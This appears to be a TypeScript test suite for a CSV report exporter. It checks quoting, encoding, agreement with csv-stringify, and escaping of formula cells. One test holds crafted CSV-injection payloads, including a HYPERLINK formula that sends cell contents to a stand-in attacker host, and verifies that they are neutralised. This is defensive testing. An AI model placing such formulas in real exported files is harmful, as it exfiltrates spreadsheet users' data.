// CSV exports read back with csv-parse, a parser independent of the csv-stringify writer.
import { Readable, Writable } from "node:stream";
import { pipeline } from "node:stream/promises";
import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvRecordOptions, writeCsvReport } from "../../src/reports/csv-report-writer";
import { escapeFormula, formulaEscaper } from "../../src/reports/formula-escape";
import { REPORT_COLUMNS, rowValues } from "../../src/reports/report-columns";
import { type Report, ReportGenerator, type ReportRow } from "../../src/reports/report-generator";
import { GUIDE_PERIOD, SEPTEMBER_1, sampleReport } from "./report-fixtures";

// Characters that need quoting or escaping, mixed with any Unicode character.
const CELL_UNIT = fc.oneof(
  fc.constantFrom('"', ",", ";", "\r", "\n", "=", "-", "+", "@", "\t", "é", "ł", "€"),
  fc.string({ unit: "grapheme", minLength: 1, maxLength: 1 }),
);
const HEADER = ["period_start", "period_end", "metric", "count", "sum", "mean", "min", "max", "p50", "p95"];

/** A report with the given rows; the CSV writer reads nothing else. */
function reportOf(rows: ReportRow[]): Report {
  return {
    id: "r",
    title: "T",
    metrics: [...new Set(rows.map((row) => row.metric))],
    period: { start: "2025-09-01T00:00:00.000Z", end: "2025-10-01T00:00:00.000Z", label: "September" },
    interval: "day",
    defaultFormat: "csv",
    generatedAt: "2025-10-01T00:00:00.000Z",
    rows,
    totals: [],
  };
}

async function collect(write: (destination: Writable) => Promise<void>): Promise<Buffer> {
  const chunks: Buffer[] = [];
  await write(
    new Writable({
      write(chunk: Buffer, _encoding, callback) {
        chunks.push(chunk);
        callback();
      },
    }),
  );
  return Buffer.concat(chunks);
}

/** What csv-stringify's stream API writes for the report's rows, record by record: the reference. */
function referenceCsv(report: Report, options: { bom: boolean; delimiter: string; escapeFormulas: boolean }) {
  const text = options.escapeFormulas ? escapeFormula : (value: string) => value;
  const records = report.rows.map((row) => {
    const values = rowValues(row);
    values[2] = text(values[2]);
    return values;
  });
  return collect((destination) =>
    pipeline(
      Readable.from(records),
      stringify({
        ...csvRecordOptions(options.delimiter),
        header: true,
        columns: [...REPORT_COLUMNS],
        bom: options.bom,
      }),
      destination,
    ),
  );
}

function readCsv(content: Uint8Array, delimiter = ","): string[][] {
  return parse(Buffer.from(content), { delimiter, bom: true, relax_column_count: false }) as string[][];
}

describe("CSV export", { timeout: 30_000 }, () => {
  it("holds every bucket row, parsed back equal to the report (numbers, empty statistics, accents)", async () => {
    const { reports, report } = sampleReport();
    const exported = await reports.exportReport(report.id, "csv");
    const [header, ...records] = readCsv(exported.content);

    expect(header).toEqual(HEADER);
    expect(records).toHaveLength(report.rows.length);
    records.forEach((record, index) => {
      const row = report.rows[index];
      expect(record.slice(0, 3)).toEqual([row?.start, row?.end, row?.metric]);
      const stats = [row?.count, row?.sum, row?.mean, row?.min, row?.max, row?.p50, row?.p95];
      expect(record.slice(3).map((cell) => (cell === "" ? null : Number(cell)))).toEqual(stats);
    });
    // RFC 4180: CRLF line ends; UTF-8 without a byte order mark unless asked.
    const text = Buffer.from(exported.content).toString("utf8");
    expect(text.startsWith("period_start,")).toBe(true);
    expect(text.split("\r\n")).toHaveLength(report.rows.length + 2);
    expect(text).toContain("zażółć gęślą");
  });

  it("starts with a byte order mark when asked and honours the delimiter", async () => {
    const { reports, report } = sampleReport();
    const exported = await reports.exportReport(report.id, "csv", { bom: true, delimiter: ";" });
    expect([...Buffer.from(exported.content).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(readCsv(exported.content, ";")[0]).toEqual(HEADER);
  });

  it("quotes a field holding a lone line feed or carriage return, so a spreadsheet keeps it in one row", async () => {
    const reports = new ReportGenerator();
    const metrics = ["two\nlines", "old\rmac", "plain"];
    const rows = metrics.map((metric) => ({ metric, timestamp: SEPTEMBER_1, value: 1 }));
    const report = reports.generateReport("Breaks", metrics, { start: "2025-09-01", end: "2025-09-01" }, "csv", {
      rows,
    });
    const content = (await reports.exportReport(report.id, "csv")).content;
    const text = Buffer.from(content).toString("utf8");
    expect(text).toContain(',"two\nlines",');
    expect(text).toContain(',"old\rmac",');
    // A reader that ends a record at any line break still finds one record per row.
    const records = parse(Buffer.from(content), { record_delimiter: ["\r\n", "\n", "\r"] }) as string[][];
    expect(records.map((record) => record[2])).toEqual(["metric", ...metrics]);
  });

  it("makes a crafted formula cell inert by default, and keeps it verbatim only when told", async () => {
    const reports = new ReportGenerator();
    const crafted = [
      '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
      "+1+1",
      "-2+3",
      "@SUM(A1)",
      "\tcmd",
      "ok\n=1+2",
    ];
    const rows = crafted.map((metric) => ({ metric, timestamp: SEPTEMBER_1, value: 1 }));
    const report = reports.generateReport("Injection", crafted, GUIDE_PERIOD, "csv", { rows });

    const safe = readCsv((await reports.exportReport(report.id, "csv")).content);
    const safeMetrics = safe.slice(1, crafted.length + 1).map((record) => record[2]);
    expect(safeMetrics).toEqual([`'${crafted[0]}`, "'+1+1", "'-2+3", "'@SUM(A1)", "'\tcmd", "ok\n'=1+2"]);
    const raw = readCsv((await reports.exportReport(report.id, "csv", { escapeFormulas: false })).content);
    expect(raw.slice(1, crafted.length + 1).map((record) => record[2])).toEqual(crafted);
  });

  it("round-trips any metric name through quoting (property)", async () => {
    const reports = new ReportGenerator({ maxReports: 1 });
    await fc.assert(
      fc.asyncProperty(
        fc.uniqueArray(fc.string({ unit: CELL_UNIT, minLength: 1, maxLength: 20 }), { minLength: 1, maxLength: 4 }),
        async (metrics) => {
          const rows = metrics.map((metric, index) => ({ metric, timestamp: SEPTEMBER_1, value: index }));
          const report = reports.generateReport("P", metrics, { start: "2025-09-01", end: "2025-09-01" }, "csv", {
            rows,
          });
          const raw = readCsv((await reports.exportReport(report.id, "csv", { escapeFormulas: false })).content);
          expect(raw.slice(1).map((record) => record[2])).toEqual(metrics);
          const safe = readCsv((await reports.exportReport(report.id, "csv")).content);
          expect(safe.slice(1).map((record) => record[2])).toEqual(metrics.map(escapeFormula));
        },
      ),
      { numRuns: 60 },
    );
  });
});

describe("CSV writer against csv-stringify", { timeout: 120_000 }, () => {
  const unit = fc.oneof(
    { arbitrary: fc.constantFrom("a", "Z", "0", " ", "_", "é", "€", "\ud83d", "'"), weight: 8 },
    { arbitrary: fc.constantFrom('"', ",", ";", "\r", "\n", "\t", "=", "-", "+", "@", "|", "."), weight: 1 },
  );
  const number = fc.oneof(
    fc.double(),
    fc.integer(),
    fc.constantFrom(-0, Number.NaN, Number.POSITIVE_INFINITY, Number.NEGATIVE_INFINITY, 1e21, 5e-324, 0.1 + 0.2),
  );
  const statistic = fc.option(number, { nil: null, freq: 4 });
  const instant = fc.oneof(
    fc.date({ noInvalidDate: true }).map((date) => date.toISOString()),
    fc.string({ unit, maxLength: 6 }),
  );
  const row = fc.record({
    start: instant,
    end: instant,
    metric: fc.string({ unit, maxLength: 10 }),
    count: fc.nat(),
    sum: number,
    mean: statistic,
    min: statistic,
    max: statistic,
    p50: statistic,
    p95: statistic,
  });
  const options = fc.record({
    bom: fc.boolean(),
    delimiter: fc.constantFrom(",", ";", "\t", "|", ".", "-", "e", "0", ":", "]", "é"),
    escapeFormulas: fc.boolean(),
  });

  it("writes byte for byte what csv-stringify's stream API writes, for any rows and options (property)", async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(row, { maxLength: 40 }), options, async (rows, exportOptions) => {
        const report = reportOf(rows);
        const ours = await collect((destination) => writeCsvReport(report, destination, exportOptions));
        expect(ours.equals(await referenceCsv(report, exportOptions))).toBe(true);
      }),
      { numRuns: 300 },
    );
  });

  it("stays byte-identical across its blocks of rows, with runs of rows that need quoting between plain ones", async () => {
    const rows: ReportRow[] = Array.from({ length: 9_500 }, (_, index) => ({
      start: new Date(Date.UTC(2025, 8, 1) + index * 3_600_000).toISOString(),
      end: new Date(Date.UTC(2025, 8, 1) + (index + 1) * 3_600_000).toISOString(),
      // Runs of 1 to 7 rows whose name needs quoting, at places that straddle the block boundaries.
      metric: index % 997 < (index % 7) + 1 || (index > 3_995 && index < 4_003) ? `m,${index % 3}` : `m${index % 3}`,
      count: index,
      sum: index * 1.5,
      mean: index % 5 === 0 ? null : index / 7,
      min: -index,
      max: index,
      p50: index % 11 === 0 ? null : index / 3,
      p95: 1e21 + index,
    }));
    const report = reportOf(rows);
    for (const exportOptions of [
      { bom: true, delimiter: ",", escapeFormulas: true },
      { bom: false, delimiter: ".", escapeFormulas: false },
    ]) {
      const ours = await collect((destination) => writeCsvReport(report, destination, exportOptions));
      expect(ours.equals(await referenceCsv(report, exportOptions))).toBe(true);
    }
  });
});

describe("escapeFormula", () => {
  it("leaves no cell or line starting with a formula trigger, and only ever inserts apostrophes (property)", () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", "a", "1", " ", "'") }),
        (text) => {
          const escaped = escapeFormula(text);
          expect(/^[=+\-@\t\r]/.test(escaped)).toBe(false);
          expect(/[\r\n][=+\-@\t]/.test(escaped)).toBe(false);
          // Only apostrophes were inserted: nothing else changed.
          expect(escaped.replaceAll("'", "")).toBe(text.replaceAll("'", ""));
          expect(escaped.length).toBeGreaterThanOrEqual(text.length);
        },
      ),
    );
  });

  it("keeps harmless text as it is", () => {
    expect(escapeFormula("total_revenue")).toBe("total_revenue");
    expect(escapeFormula("a-b=c")).toBe("a-b=c");
    expect(escapeFormula("")).toBe("");
  });
});

describe("formulaEscaper", () => {
  it("gives every text what escapeFormula gives it, however often it comes back, and leaves it alone when off (property)", () => {
    fc.assert(
      fc.property(
        fc.array(fc.string({ unit: fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", "a", "'") }), {
          maxLength: 30,
        }),
        (texts) => {
          const escaper = formulaEscaper(true);
          const off = formulaEscaper(false);
          for (const text of [...texts, ...texts]) {
            expect(escaper(text)).toBe(escapeFormula(text));
            expect(off(text)).toBe(text);
          }
        },
      ),
    );
  });
});
